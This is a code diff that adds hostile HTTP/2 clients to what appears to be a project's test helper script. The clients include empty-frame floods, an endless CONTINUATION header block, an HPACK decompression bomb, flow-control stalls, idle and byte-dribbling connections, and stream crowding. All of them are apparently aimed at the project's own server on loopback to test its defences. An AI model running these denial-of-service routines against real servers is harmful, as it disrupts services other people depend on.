@@ -21,6 +21,30 @@ Each command prints one JSON object on stdout:
   request HOST PORT CA FIELDS      one request with the header list FIELDS (JSON [[name, value], ...]) sent
                                    as it is (h2's own checks of outgoing fields off), its status and body
 
+Hostile clients, frame by frame (each prints how the server answered: GOAWAY and its code, when it
+closed the connection, RST_STREAM codes, statuses):
+  empty-frames HOST PORT CA KIND N [SECONDS]
+                                   N empty frames as fast as they go: KIND data (on one open request),
+                                   headers (zero-length, a new stream each) or continuation; pings: PING
+                                   acknowledgements nobody asked for
+  endless-continuation HOST PORT CA [FRAMES SIZE]
+                                   CONTINUATION frames of SIZE bytes that never set END_HEADERS
+  hpack-bomb HOST PORT CA [STREAMS REFERENCES]
+                                   a 4,000-byte header entered in the server's HPACK table, then
+                                   STREAMS requests each referring to it REFERENCES times
+  stall HOST PORT CA PATH TOKEN N SECONDS [stream|connection]
+                                   N requests for PATH, never a WINDOW_UPDATE (stream windows 0, or the
+                                   connection's window left to run out); TOKEN "-" for none
+  idle HOST PORT CA N SECONDS      N connections that send the preface, then nothing
+  dribble HOST PORT CA PATH INTERVAL SECONDS [all|head]
+                                   the preface and a request sent a byte every INTERVAL seconds (head:
+                                   only the request's HEADERS frame)
+  crowd HOST PORT CA CONNECTIONS STREAMS PATH TOKEN SECONDS
+                                   CONNECTIONS connections each opening STREAMS requests whose bodies never come
+  probe URL TOKEN TOPIC DEVICE SECONDS [INTERVAL]
+                                   a well-behaved client on one h2 connection: /healthz and a push in
+                                   turn; latencies, statuses and failures
+
 CA is a PEM file to trust (TLS), or "-" for h2c on plain TCP.
 """
 import asyncio
@@ -28,11 +52,14 @@ import json
 import socket
 import ssl
 import sys
+import threading
+import time
 import uuid
 
 import h2.config
 import h2.connection
 import h2.events
+import hpack
 import httpx
 
 
@@ -279,6 +306,400 @@ def request(host, port, ca, fields) -> dict:
         sock.close()
 
 
+
+# MARK: - Hostile HTTP/2 clients, frame by frame (make abuse, HTTP2AbuseTests)
+#
+# These write frames themselves (h2 refuses to send most of them) with a small HPACK encoder of
+# their own that never indexes, except where the attack is the index. Every loop is bounded in count
+# and in time; everything goes to the host given (loopback in the tests and make abuse).
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
+END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def settings(values: dict) -> bytes:
+    return frame(SETTINGS, 0, 0, b"".join(key.to_bytes(2, "big") + value.to_bytes(4, "big") for key, value in values.items()))
+
+
+def hpack_integer(value: int, prefix: int, first: int = 0) -> bytes:
+    limit = (1 << prefix) - 1
+    if value < limit:
+        return bytes([first | value])
+    out = [first | limit]
+    value -= limit
+    while value >= 128:
+        out.append(value % 128 + 128)
+        value //= 128
+    out.append(value)
+    return bytes(out)
+
+
+def hpack_string(text) -> bytes:
+    data = text.encode() if isinstance(text, str) else text
+    return hpack_integer(len(data), 7) + data
+
+
+def hpack_field(name, value, indexing=False) -> bytes:
+    """A literal field with a new name: without indexing, or with incremental indexing (it enters the
+    decoder's dynamic table, at index 62 when it is the newest)."""
+    return (b"\x40" if indexing else b"\x00") + hpack_string(name) + hpack_string(value)
+
+
+def hpack_indexed(index: int) -> bytes:
+    return hpack_integer(index, 7, 0x80)
+
+
+def request_block(method: str, path: str, authority: str, extra=()) -> bytes:
+    block = hpack_field(":method", method) + hpack_field(":scheme", "http") + hpack_field(":path", path)
+    block += hpack_field(":authority", authority)
+    for name, value in extra:
+        block += hpack_field(name, value)
+    return block
+
+
+ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 4: "SETTINGS_TIMEOUT",
+               5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
+               10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}
+
+
+class Wire:
+    """One raw HTTP/2 connection: what the attacker sends, and what the server answered, read by a
+    thread of its own (so a server that answers is never blocked by an attacker that does not read,
+    unless the attack is not reading). SETTINGS are acknowledged; nothing else is."""
+
+    def __init__(self, host, port, ca, local_settings=None, preface=True, acknowledges=True):
+        sock = socket.create_connection((host, int(port)), timeout=30)
+        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        made = context(ca)
+        if made is not None:
+            sock = made.wrap_socket(sock, server_hostname=host)
+        self.sock = sock
+        self.authority = f"{host}:{port}"
+        self.started = time.monotonic()
+        self.lock = threading.Lock()
+        self.goaway = None
+        self.goaway_at = None
+        self.closed_at = None
+        self.error = None
+        self.resets = {}
+        self.statuses = {}
+        self.data = {}
+        self.ended = set()
+        self.decoder = hpack.Decoder()
+        self.decoder.max_allowed_table_size = 1 << 16
+        self._block = {}
+        # A client dribbling its preface must not have an acknowledgement put in the middle of it.
+        self.acknowledges = preface and acknowledges
+        if preface:
+            self.send(PREFACE + settings(local_settings or {}))
+        self.reader = threading.Thread(target=self._read, daemon=True)
+        self.reader.start()
+
+    def send(self, data: bytes) -> bool:
+        """False when the server has ended the connection."""
+        try:
+            with self.lock:
+                self.sock.sendall(data)
+            return True
+        except (OSError, ssl.SSLError) as error:
+            self.error = self.error or type(error).__name__
+            return False
+
+    def _read(self):
+        buffer = b""
+        self.sock.settimeout(None)
+        try:
+            while True:
+                chunk = self.sock.recv(1 << 16)
+                if not chunk:
+                    break
+                buffer += chunk
+                while len(buffer) >= 9:
+                    length = int.from_bytes(buffer[:3], "big")
+                    if len(buffer) < 9 + length:
+                        break
+                    kind, flags, stream = buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
+                    payload = buffer[9:9 + length]
+                    buffer = buffer[9 + length:]
+                    self._frame(kind, flags, stream, payload)
+        except (OSError, ssl.SSLError) as error:
+            self.error = self.error or type(error).__name__
+        self.closed_at = time.monotonic() - self.started
+
+    def _frame(self, kind, flags, stream, payload):
+        if kind == SETTINGS and not flags & ACK and self.acknowledges:
+            self.send(frame(SETTINGS, ACK, 0))
+        elif kind == GOAWAY and len(payload) >= 8:
+            self.goaway = ERROR_NAMES.get(int.from_bytes(payload[4:8], "big"), str(int.from_bytes(payload[4:8], "big")))
+            self.goaway_at = time.monotonic() - self.started
+        elif kind == RST_STREAM and len(payload) >= 4:
+            self.resets[stream] = ERROR_NAMES.get(int.from_bytes(payload[:4], "big"), "?")
+        elif kind in (HEADERS, CONTINUATION):
+            if kind == HEADERS:
+                padding = payload[0] if flags & 0x8 else 0
+                start = (1 if flags & 0x8 else 0) + (5 if flags & 0x20 else 0)
+                payload = payload[start:len(payload) - padding]
+            self._block[stream] = self._block.get(stream, b"") + payload
+            if flags & END_HEADERS:
+                fields = dict(self.decoder.decode(self._block.pop(stream)))
+                if ":status" in fields:
+                    self.statuses[stream] = int(fields[":status"])
+            if flags & END_STREAM:
+                self.ended.add(stream)
+        elif kind == DATA:
+            padding = payload[0] if flags & 0x8 else 0
+            self.data[stream] = self.data.get(stream, 0) + len(payload) - (1 + padding if flags & 0x8 else 0)
+            if flags & END_STREAM:
+                self.ended.add(stream)
+
+    def wait(self, seconds, until=None):
+        """Waits until the server ends the connection, `until()` holds, or `seconds` pass."""
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline and self.closed_at is None and not (until and until()):
+            time.sleep(0.02)
+
+    def close(self):
+        try:
+            self.sock.close()
+        except OSError:
+            pass
+
+    def outcome(self) -> dict:
+        statuses: dict = {}
+        for status in self.statuses.values():
+            statuses[str(status)] = statuses.get(str(status), 0) + 1
+        resets: dict = {}
+        for code in self.resets.values():
+            resets[code] = resets.get(code, 0) + 1
+        return {"goaway": self.goaway, "goawayAt": None if self.goaway_at is None else round(self.goaway_at, 2),
+                "closed": self.closed_at is not None, "closedAt": None if self.closed_at is None else round(self.closed_at, 2),
+                "error": self.error, "statuses": statuses, "resets": resets}
+
+
+def empty_frames(host, port, ca, kind, count, seconds="20") -> dict:
+    """COUNT frames with nothing in them, as fast as the connection takes them (for at most SECONDS):
+    `data`: empty DATA frames on one open request (`pings`: PING acknowledgements nobody asked for, valid
+    frames the server reads and drops, as a client sending without pause); `headers`: zero-length HEADERS frames, a new stream
+    each; `continuation`: zero-length CONTINUATION frames after a HEADERS frame without END_HEADERS."""
+    wire = Wire(host, port, ca)
+    count, limit = int(count), float(seconds)
+    if kind == "data":
+        wire.send(frame(HEADERS, END_HEADERS, 1, request_block("POST", "/healthz", wire.authority)))
+        batch = frame(DATA, 0, 1) * 1000
+    elif kind == "pings":
+        batch = frame(PING, ACK, 0, bytes(8)) * 1000
+    elif kind == "continuation":
+        wire.send(frame(HEADERS, 0, 1, request_block("GET", "/healthz", wire.authority)))
+        batch = frame(CONTINUATION, 0, 1) * 1000
+    else:
+        batch = None
+    sent, stream = 0, 1
+    deadline = time.monotonic() + limit
+    while sent < count and time.monotonic() < deadline and wire.closed_at is None:
+        if batch is None:
+            chunk = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream + 2 * index) for index in range(1000))
+            stream += 2000
+        else:
+            chunk = batch
+        if not wire.send(chunk):
+            break
+        sent += 1000
+    sending = time.monotonic() - wire.started
+    wire.wait(max(1.0, deadline - time.monotonic()))
+    answer = wire.outcome()
+    answer.update({"sent": sent, "sendingSeconds": round(sending, 2)})
+    wire.close()
+    return answer
+
+
+def endless_continuation(host, port, ca, frames="64", size="16384") -> dict:
+    """A HEADERS frame and then CONTINUATION frames of SIZE bytes of one header's value, END_HEADERS
+    never set: how far the server lets the header block grow."""
+    wire = Wire(host, port, ca)
+    head = request_block("GET", "/healthz", wire.authority)
+    # Fields of 100 bytes, each complete, frame after frame: the header list grows, the block never ends.
+    field = hpack_field("x-endless", "e" * 100)
+    fill = (field * (int(size) // len(field) + 1))[:int(size) // len(field) * len(field)]
+    sent = 0
+    if wire.send(frame(HEADERS, 0, 1, head)):
+        for _ in range(int(frames)):
+            if not wire.send(frame(CONTINUATION, 0, 1, fill)):
+                break
+            sent += 1
+    wire.wait(15)
+    answer = wire.outcome()
+    answer.update({"sent": sent, "blockBytes": len(head) + sent * len(fill)})
+    wire.close()
+    return answer
+
+
+def hpack_bomb(host, port, ca, streams="50", references="16000") -> dict:
+    """SETTINGS_HEADER_TABLE_SIZE as large as it goes, a 4,000-byte header entered into the server's
+    decoding table, then STREAMS requests each referring to it REFERENCES times (one byte each, 4 KB
+    decoded): a header list of tens of MB from a block of 16 KB."""
+    wire = Wire(host, port, ca, local_settings={1: 0x7FFFFFFF})
+    first = request_block("GET", "/healthz", wire.authority) + hpack_field("x-bomb", "b" * 4000, indexing=True)
+    wire.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, first))
+    wire.wait(10, until=lambda: 1 in wire.statuses or 1 in wire.resets)
+    sent = 0
+    for index in range(int(streams)):
+        block = request_block("GET", "/healthz", wire.authority) + hpack_indexed(62) * int(references)
+        chunks = [block[offset:offset + 16384] for offset in range(0, len(block), 16384)]
+        stream = 3 + 2 * index
+        frames = [frame(HEADERS, (END_HEADERS if len(chunks) == 1 else 0) | END_STREAM, stream, chunks[0])]
+        for position, chunk in enumerate(chunks[1:], start=2):
+            frames.append(frame(CONTINUATION, END_HEADERS if position == len(chunks) else 0, stream, chunk))
+        if not wire.send(b"".join(frames)):
+            break
+        sent += 1
+    last = 3 + 2 * (sent - 1)
+    wire.wait(20, until=lambda: last in wire.statuses or last in wire.resets or wire.goaway is not None)
+    answer = wire.outcome()
+    answer.update({"sent": sent, "decodedPerRequest": int(references) * 4032, "first": wire.statuses.get(1) or wire.resets.get(1)})
+    wire.close()
+    return answer
+
+
+def stall(host, port, ca, path, token, streams, seconds, window="stream") -> dict:
+    """STREAMS requests for PATH and never a WINDOW_UPDATE: `stream` sets SETTINGS_INITIAL_WINDOW_SIZE
+    to 0 (no stream may send a byte); `connection` leaves the streams' windows open and lets the
+    connection's 65,535 bytes run out. Waits SECONDS for the server to end it."""
+    initial = {4: 0} if window == "stream" else {4: 0x7FFFFFFF}
+    wire = Wire(host, port, ca, local_settings=initial)
+    extra = [("authorization", f"Bearer {token}")] if token != "-" else []
+    opened = []
+    for index in range(int(streams)):
+        stream = 1 + 2 * index
+        if not wire.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, request_block("GET", path, wire.authority, extra))):
+            break
+        opened.append(stream)
+    wire.wait(float(seconds), until=lambda: all(stream in wire.ended or stream in wire.resets for stream in opened))
+    answer = wire.outcome()
+    answer.update({"opened": len(opened), "dataBytes": sum(wire.data.values()),
+                   "unfinished": len([stream for stream in opened if stream not in wire.ended and stream not in wire.resets])})
+    wire.close()
+    return answer
+
+
+def idle(host, port, ca, count, seconds) -> dict:
+    """COUNT connections that send the preface and their SETTINGS, then nothing: when the server ends each."""
+    wires = []
+    for _ in range(int(count)):
+        try:
+            wires.append(Wire(host, port, ca))
+        except OSError as error:
+            return {"opened": len(wires), "error": type(error).__name__}
+    deadline = time.monotonic() + float(seconds)
+    while time.monotonic() < deadline and any(wire.closed_at is None for wire in wires):
+        time.sleep(0.05)
+    closed = sorted(wire.closed_at for wire in wires if wire.closed_at is not None)
+    goaways: dict = {}
+    for wire in wires:
+        goaways[str(wire.goaway)] = goaways.get(str(wire.goaway), 0) + 1
+        wire.close()
+    return {"opened": len(wires), "closed": len(closed), "firstClosedAt": round(closed[0], 2) if closed else None,
+            "lastClosedAt": round(closed[-1], 2) if closed else None, "goaways": goaways}
+
+
+def dribble(host, port, ca, path, interval, seconds, part="all") -> dict:
+    """The preface, SETTINGS and a request for PATH sent a byte every INTERVAL seconds (PART `head`:
+    the preface and SETTINGS at once, the request's HEADERS frame a byte at a time): whether it is
+    answered or ended, and when (for at most SECONDS)."""
+    wire = Wire(host, port, ca, preface=part == "head", acknowledges=False)
+    message = frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block("GET", path, wire.authority))
+    if part != "head":
+        message = PREFACE + settings({}) + message
+    sent = 0
+    deadline = time.monotonic() + float(seconds)
+    while sent < len(message) and time.monotonic() < deadline and wire.closed_at is None:
+        if not wire.send(message[sent:sent + 1]):
+            break
+        sent += 1
+        time.sleep(float(interval))
+    wire.wait(max(0.5, deadline - time.monotonic()), until=lambda: 1 in wire.ended or 1 in wire.resets)
+    answer = wire.outcome()
+    answer.update({"sentBytes": sent, "ofBytes": len(message)})
+    wire.close()
+    return answer
+
+
+def crowd(host, port, ca, connections, streams, path, token, seconds) -> dict:
+    """CONNECTIONS connections, each opening STREAMS POST requests for PATH whose bodies never come
+    (at most SETTINGS_MAX_CONCURRENT_STREAMS are taken): how many streams were refused, and when the
+    server ended the connections (for at most SECONDS)."""
+    wires = []
+    extra = [("content-type", "application/json"), ("content-length", "1000")]
+    if token != "-":
+        extra.append(("authorization", f"Bearer {token}"))
+    refused_to_connect = 0
+    for _ in range(int(connections)):
+        try:
+            wire = Wire(host, port, ca)
+        except OSError:
+            refused_to_connect += 1
+            continue
+        wires.append(wire)
+        wire.send(b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * index, request_block("POST", path, wire.authority, extra))
+                           for index in range(int(streams))))
+    opened_at = time.monotonic()
+    deadline = opened_at + float(seconds)
+    while time.monotonic() < deadline and any(wire.closed_at is None for wire in wires):
+        time.sleep(0.05)
+    closed = sorted(wire.closed_at for wire in wires if wire.closed_at is not None)
+    resets: dict = {}
+    goaways: dict = {}
+    statuses: dict = {}
+    for wire in wires:
+        for key, value in wire.outcome()["resets"].items():
+            resets[key] = resets.get(key, 0) + value
+        for key, value in wire.outcome()["statuses"].items():
+            statuses[key] = statuses.get(key, 0) + value
+        goaways[str(wire.goaway)] = goaways.get(str(wire.goaway), 0) + 1
+        wire.close()
+    return {"connections": len(wires), "notConnected": refused_to_connect, "closed": len(closed),
+            "lastClosedAt": round(closed[-1], 2) if closed else None, "resets": resets, "statuses": statuses, "goaways": goaways}
+
+
+async def probe(url, token, topic, device, seconds, interval="0.2") -> dict:
+    """A well-behaved client on one httpx h2 connection: GET /healthz and a push to DEVICE
+    (authorization: the app's Chime token) in turn, every INTERVAL seconds for SECONDS."""
+    latencies: dict = {"healthz": [], "push": []}
+    failures: dict = {}
+    statuses: dict = {}
+    limits = httpx.Limits(max_connections=1, max_keepalive_connections=1)
+    deadline = time.monotonic() + float(seconds)
+    async with httpx.AsyncClient(http2=True, http1=False, verify=False, limits=limits, timeout=10.0) as client:
+        while time.monotonic() < deadline:
+            for name in ("healthz", "push"):
+                started = time.monotonic()
+                try:
+                    if name == "healthz":
+                        answer = await client.get(url + "/healthz")
+                    else:
+                        answer = await client.post(f"{url}/3/device/{device}", content=b'{"aps": {"alert": "probe"}}', headers={
+                            "authorization": f"bearer {token}", "apns-topic": topic, "apns-push-type": "alert"})
+                    key = f"{name} {answer.status_code}"
+                    statuses[key] = statuses.get(key, 0) + 1
+                    latencies[name].append(time.monotonic() - started)
+                except Exception as error:  # noqa: BLE001 - counted: a probe that fails is the finding
+                    key = f"{name} {type(error).__name__}"
+                    failures[key] = failures.get(key, 0) + 1
+            await asyncio.sleep(float(interval))
+
+    def summary(values):
+        ordered = sorted(values)
+        if not ordered:
+            return {"count": 0}
+        return {"count": len(ordered), "p50Ms": round(ordered[len(ordered) // 2] * 1000, 1),
+                "p99Ms": round(ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))] * 1000, 1), "maxMs": round(ordered[-1] * 1000, 1)}
+    return {"healthz": summary(latencies["healthz"]), "push": summary(latencies["push"]), "statuses": statuses, "failures": failures}
+
+
 def main(command: str, *arguments: str) -> dict:
     if command == "many":
         return asyncio.run(many(*arguments))
@@ -300,6 +721,22 @@ def main(command: str, *arguments: str) -> dict:
         return flood(*arguments, "settings")
     if command == "request":
         return request(*arguments)
+    if command == "empty-frames":
+        return empty_frames(*arguments)
+    if command == "endless-continuation":
+        return endless_continuation(*arguments)
+    if command == "hpack-bomb":
+        return hpack_bomb(*arguments)
+    if command == "stall":
+        return stall(*arguments)
+    if command == "idle":
+        return idle(*arguments)
+    if command == "dribble":
+        return dribble(*arguments)
+    if command == "crowd":
+        return crowd(*arguments)
+    if command == "probe":
+        return asyncio.run(probe(*arguments))
     raise SystemExit(f"unknown command {command}")
 
 
